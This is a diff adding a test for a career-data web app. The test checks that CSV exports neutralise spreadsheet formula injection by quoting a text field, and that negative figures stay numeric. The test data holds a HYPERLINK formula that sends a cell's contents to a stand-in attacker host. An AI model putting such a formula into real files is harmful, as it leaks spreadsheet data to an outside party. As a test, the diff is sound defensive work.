@@ -41,6 +41,17 @@ def test_download_csv_top_coded_value_is_qualified(client, db):
     assert (top["value"], top["qualifier"]) == ("239200", "or more")
 
 
+def test_download_csv_text_a_spreadsheet_would_run_is_kept_as_text(client, db):
+    page = full_career(growth="-2.0")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    page.occupation.projections.update(typical_education=formula)
+    content = client.get(f"/careers/{page.slug}/data.csv").content.decode()
+    figures = {row["measure"]: row for row in csv.DictReader(io.StringIO(content))}
+    assert figures["typical education needed for entry"]["value"] == f"'{formula}"
+    # A figure stays a number, minus sign and all.
+    assert figures["projected growth"]["value"] == "-2"
+
+
 def test_download_json_carries_figures_and_attribution(client, career):
     response = client.get(f"/careers/{career.slug}/data.json")
     assert response.status_code == 200
